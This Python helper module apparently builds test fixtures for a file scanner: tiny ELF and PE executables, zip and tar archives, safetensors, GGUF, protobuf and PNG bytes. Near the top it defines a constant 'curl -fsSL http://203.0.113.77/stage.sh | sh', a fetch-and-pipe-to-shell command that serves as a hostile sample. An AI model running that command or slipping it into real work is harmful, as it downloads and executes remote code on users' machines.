"""Bytes that several families need: executables, archives, GGUF, safetensors and protobuf writers."""
import contextlib
import gzip
import io
import json
import os
import pathlib
import pickle
import struct
import subprocess
import sys
import tarfile
import tempfile
import zipfile
import zlib

HOST = "203.0.113.77"
FETCH = f"curl -fsSL http://{HOST}/stage.sh | sh"
CODE = "open('marker','w').close()"
WHEN = (2024, 1, 1, 0, 0, 0)


@contextlib.contextmanager
def scratch():
    """A folder of its own for writers that need one, or whose hostile part would run while it is built."""
    back = os.getcwd()
    with tempfile.TemporaryDirectory() as folder:
        os.chdir(folder)
        try:
            yield folder
        finally:
            os.chdir(back)


def apart(module, function):
    """The pairs that `function` of `module` adds, made in a process of its own: torch and TensorFlow do not share one."""
    home = str(pathlib.Path(__file__).resolve().parent.parent)
    code = "import importlib, pickle, sys; sys.path.insert(0, sys.argv[1]); from pair import Set; out = Set(); getattr(importlib.import_module(sys.argv[2]), sys.argv[3])(out); pickle.dump(out.pairs, open(sys.argv[4], 'wb'))"
    with tempfile.TemporaryDirectory() as folder:
        answer = os.path.join(folder, "pairs")
        subprocess.run([sys.executable, "-c", code, home, module, function, answer], check=True, stdin=subprocess.DEVNULL, env={**os.environ, "TF_CPP_MIN_LOG_LEVEL": "3", "KERAS_BACKEND": "tensorflow"})
        with open(answer, "rb") as f:
            return pickle.load(f)


def elf(machine=62) -> bytes:
    """A whole ELF program for x86-64 that ends at once (or, for another machine, only the shape of one)."""
    code = b"\x31\xff\xb8\x3c\x00\x00\x00\x0f\x05"
    head = b"\x7fELF\x02\x01\x01\0" + bytes(8)
    head += struct.pack("<HHIQQQIHHHHHH", 2, machine, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    size = 120 + len(code) + 9
    head += struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, size, size, 0x1000)
    return head + code + b"/bin/sh\0\0"


def pe() -> bytes:
    """A PE program: stub, header, one code section."""
    stub = b"MZ" + bytes(58) + struct.pack("<I", 128) + b"\x0e\x1f\xba\x0e\0\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21"
    stub = (stub + b"This program cannot be run in DOS mode.\r\r\n$").ljust(128, b"\0")
    opt = struct.pack("<HBBIIIIIQIIHHHHHHIIIIHHQQQQII", 0x20B, 14, 0, 512, 0, 0, 0x1000, 0x1000, 0x140000000, 0x1000, 512, 6, 0, 0, 0, 6, 0, 0, 0x2000, 512, 0, 3, 0x8160, 0x100000, 0x1000, 0x100000, 0x1000, 0, 16)
    opt += bytes(128)
    coff = b"PE\0\0" + struct.pack("<HHIIIHH", 0x8664, 1, 0x65A0B0C0, 0, 0, len(opt), 0x22)
    section = b".text\0\0\0" + struct.pack("<IIIIIIHHI", 512, 0x1000, 512, 512, 0, 0, 0, 0, 0x60000020)
    return (stub + coff + opt + section).ljust(512, b"\0") + b"\x31\xc0\xc3".ljust(512, b"\xcc")


def zipped(files, method=zipfile.ZIP_STORED, comment=b"") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as z:
        for name, data in files.items():
            info = zipfile.ZipInfo(name, WHEN)
            info.compress_type = method
            info.external_attr = 0o100644 << 16
            if isinstance(data, tuple):  # ("link", target)
                info.external_attr = 0o120777 << 16
                data = data[1]
            z.writestr(info, data)
        z.comment = comment
    return out.getvalue()


def member(name, data=b"", kind=tarfile.REGTYPE, link="", mode=0o644, pax=None):
    info = tarfile.TarInfo(name)
    info.size, info.type, info.linkname, info.mode, info.mtime = len(data), kind, link, mode, 1704067200
    info.pax_headers = pax or {}
    return info, data


def tarred(members, form=tarfile.PAX_FORMAT) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=form) as t:
        for info, data in members if isinstance(members, list) else [member(k, v if isinstance(v, bytes) else v.encode()) for k, v in members.items()]:
            t.addfile(info, io.BytesIO(data))
    return out.getvalue()


def gz(data: bytes) -> bytes:
    return gzip.compress(data, mtime=0)


def safetensors(tensors, meta=None, gap=b"") -> bytes:
    """`tensors`: name -> (dtype, shape, bytes); `gap` is left unclaimed after the first."""
    head, body = ({"__metadata__": meta} if meta else {}), b""
    for i, (name, (dtype, shape, data)) in enumerate(tensors.items()):
        head[name] = {"dtype": dtype, "shape": shape, "data_offsets": [len(body), len(body) + len(data)]}
        body += data + (gap if i == 0 else b"")
    text = json.dumps(head).encode()
    text += b" " * (-len(text) % 8)
    return struct.pack("<Q", len(text)) + text + body


def floats(n, seed=1.0) -> bytes:
    return b"".join(struct.pack("<f", ((i * 7919 + int(seed * 13)) % 2003 - 1001) / 40000.0) for i in range(n))


def gguf(pairs, tensors=(), version=3) -> bytes:
    """`pairs`: (key, type, packed value); `tensors`: (name, dims, type, offset, data)."""

    def s(x):
        x = x if isinstance(x, bytes) else x.encode()
        return struct.pack("<Q", len(x)) + x

    out = b"GGUF" + struct.pack("<IQQ", version, len(tensors), len(pairs))
    for key, kind, value in pairs:
        out += s(key) + struct.pack("<I", kind) + value
    for name, dims, kind, offset, _ in tensors:
        out += s(name) + struct.pack("<I", len(dims)) + b"".join(struct.pack("<Q", d & 0xFFFFFFFFFFFFFFFF) for d in dims)
        out += struct.pack("<iQ", kind, offset)
    out += bytes(-len(out) % 32)
    for *_, data in tensors:
        out += data + bytes(-len(data) % 32)
    return out


def gstr(x) -> bytes:
    x = x.encode()
    return struct.pack("<Q", len(x)) + x


def garr(kind, items) -> bytes:
    return struct.pack("<IQ", kind, len(items)) + b"".join(items)


def llama(pairs=(), vocab=("<unk>", "<s>", "</s>", "a", "b", "c", "d", "e"), scores=None, kinds=None, tensors=None) -> bytes:
    """A small GGUF of the llama architecture."""
    scores = [0.0] * len(vocab) if scores is None else scores
    kinds = [2, 3, 3] + [1] * (len(vocab) - 3) if kinds is None else kinds
    u = lambda n: struct.pack("<I", n)  # noqa: E731
    base = [
        ("general.architecture", 8, gstr("llama")), ("general.name", 8, gstr("tiny")), ("llama.block_count", 4, u(1)),
        ("llama.context_length", 4, u(64)), ("llama.embedding_length", 4, u(32)), ("llama.feed_forward_length", 4, u(64)),
        ("llama.attention.head_count", 4, u(4)), ("llama.attention.layer_norm_rms_epsilon", 6, struct.pack("<f", 1e-5)),
        ("tokenizer.ggml.model", 8, gstr("llama")), ("tokenizer.ggml.tokens", 9, garr(8, [gstr(t) for t in vocab])),
        ("tokenizer.ggml.scores", 9, garr(6, [struct.pack("<f", x) for x in scores])),
        ("tokenizer.ggml.token_type", 9, garr(5, [struct.pack("<i", k) for k in kinds])),
        ("tokenizer.ggml.bos_token_id", 4, u(1)), ("tokenizer.ggml.eos_token_id", 4, u(2)),
    ]  # fmt: skip
    if tensors is None:
        tensors = [("token_embd.weight", [32, len(vocab)], 0, 0, floats(32 * len(vocab)))]
    return gguf(base + list(pairs), tensors)


def varint(n) -> bytes:
    n &= 0xFFFFFFFFFFFFFFFF
    out = b""
    while n > 127:
        out, n = out + bytes([n & 127 | 128]), n >> 7
    return out + bytes([n])


def pb(*fields) -> bytes:
    """Protobuf: (number, int | bytes | str) pairs."""
    out = b""
    for number, value in fields:
        if isinstance(value, int):
            out += varint(number << 3) + varint(value)
        else:
            value = value.encode() if isinstance(value, str) else value
            out += varint(number << 3 | 2) + varint(len(value)) + value
    return out


def png(extra=b"", tail=b"") -> bytes:
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = b"".join(b"\0" + bytes([(x * y) % 251 for x in range(96)]) for y in range(32))
    body = chunk(b"IHDR", struct.pack(">IIBBBBB", 32, 32, 8, 2, 0, 0, 0)) + extra
    return b"\x89PNG\r\n\x1a\n" + body + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"") + tail
